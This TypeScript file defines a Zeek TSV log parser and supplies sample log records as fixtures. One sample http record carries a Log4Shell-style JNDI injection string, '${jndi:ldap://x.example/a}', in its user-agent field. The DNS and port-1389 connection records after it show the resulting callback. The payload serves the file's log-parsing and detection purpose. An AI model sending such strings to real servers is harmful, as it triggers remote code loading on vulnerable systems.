import { readTime } from '../time/read-time.ts'
import { columnsOf, Row } from './columns.ts'
import type { LogFormat } from './format.ts'
import { zeekRecord } from './zeek.ts'

const http =
  '#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\ttrans_depth\tmethod\thost\turi\treferrer\tversion\tuser_agent'
const dns =
  '#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\ttrans_id\trtt\tquery\tqclass\tqtype_name'
const conn = '#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration'

/** Logs of Zeek in its own form: tabs, the columns named by `#fields`, other bytes escaped as `\xNN`. */
export const zeekTsv: LogFormat = {
  id: 'zeek-tsv',
  summary: 'Zeek with `#fields`: http, dns, ssl, ldap, conn and every other with an originator and a responder',
  definedBy: 'https://docs.zeek.org/en/master/log-formats.html',
  witnesses: ['#fields\t'],
  examples: {
    reads: [
      {
        columns: http,
        record:
          '1639283141.123456\tCabc\t203.0.113.9\t51234\t10.0.0.4\t80\t1\tGET\twww.example.com\t/a\t-\t1.1\t${jndi:ldap://x.example/a}',
        when: '2021-12-12T04:25:41.123Z',
        from: '203.0.113.9',
        request: 'GET /a',
        userAgent: '${jndi:ldap://x.example/a}',
        saw: {
          is: 'connection',
          to: '10.0.0.4',
          name: 'www.example.com',
          port: 80,
          by: '203.0.113.9',
          protocol: 'http',
        },
      },
      {
        columns: dns,
        record: '1639283142.000000\tCabd\t10.0.0.4\t51234\t10.0.0.1\t53\tudp\t1\t0.01\tx.example\t1\tA',
        when: '2021-12-12T04:25:42Z',
        from: '10.0.0.4',
        saw: { is: 'dns-query', name: 'x.example', by: '10.0.0.4' },
      },
      {
        columns: conn,
        record: '1639283143.000000\tCabe\t10.0.0.4\t51235\t203.0.113.9\t1389\ttcp\t-\t0.01',
        when: '2021-12-12T04:25:43Z',
        from: '10.0.0.4',
        saw: { is: 'connection', to: '203.0.113.9', name: null, port: 1389, by: '10.0.0.4', protocol: 'tcp' },
      },
    ],
    refuses: [dns, '1639283142.000000\tCabd\t10.0.0.4', '#close\t2021-12-12-04-25-41'],
  },
  read({ text }, { columns, around }) {
    const names = columnsOf(columns, '#fields\t', '\t')
    if (names === null || text.startsWith('#')) return null
    const values = text.split('\t')
    if (values.length !== names.length) return null
    const row = new Row(names, values, ['-', '', '(empty)'])
    const when = readTime(row.value('ts') ?? '', around)
    if (when === null && row.has('ts')) return null
    return { ...zeekRecord(row, when), fields: values.map((value, index) => ({ name: names[index] ?? null, value })) }
  },
}
